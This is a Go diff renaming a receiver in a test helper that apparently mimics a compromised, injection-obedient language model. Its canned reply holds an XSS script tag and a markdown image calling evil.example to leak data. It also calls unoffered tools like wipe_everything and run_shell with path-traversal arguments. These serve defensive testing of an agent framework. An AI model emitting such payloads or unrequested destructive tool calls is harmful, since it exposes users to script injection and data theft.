@@ -258,20 +258,20 @@ type obedientModel struct {
 var foreignTools = []string{"wipe_everything", "human_of_sibling", "read_agent", "run_shell", "parley_trace", "LOOK_UP",
 	"look_up "}
 
-func (g *obedientModel) answer(x *provider.Exchange) {
+func (om *obedientModel) answer(x *provider.Exchange) {
 	body := string(x.Request.Body)
-	g.mu.Lock()
-	g.contexts = append(g.contexts, body)
-	g.mu.Unlock()
+	om.mu.Lock()
+	om.contexts = append(om.contexts, body)
+	om.mu.Unlock()
 	output := "I obey. <script>alert(1)</script> ![x](https://evil.example/?q=" + fmt.Sprint(len(body)) + ")\n" +
 		body[:min(len(body), 3000)]
 	finished := strings.Contains(body, `"tool_call_id"`) || strings.Contains(body, `"tool_result"`)
 	switch {
-	case finished && g.isAnthropic:
+	case finished && om.isAnthropic:
 		provider.AnthropicText("end_turn", output)(x)
 	case finished:
 		provider.AnswerText(output)(x)
-	case g.isAnthropic:
+	case om.isAnthropic:
 		x.Begin()
 		for i, name := range append(foreignTools, "look_up") {
 			x.ToolBlock(i, fmt.Sprint("c", i), name, `{"order": "../../agents`, fmt.Sprintf(`/%d"}`, len(body)))
@@ -287,9 +287,9 @@ func (g *obedientModel) answer(x *provider.Exchange) {
 	}
 }
 
-func (g *obedientModel) newModel(t *testing.T) model.Model {
-	url := provider.Start(t, g.answer).URL
-	if g.isAnthropic {
+func (om *obedientModel) newModel(t *testing.T) model.Model {
+	url := provider.Start(t, om.answer).URL
+	if om.isAnthropic {
 		m := &anthropic.Model{Client: httpclient.Client{BaseURL: url}}
 		t.Cleanup(m.Close)
 		return m
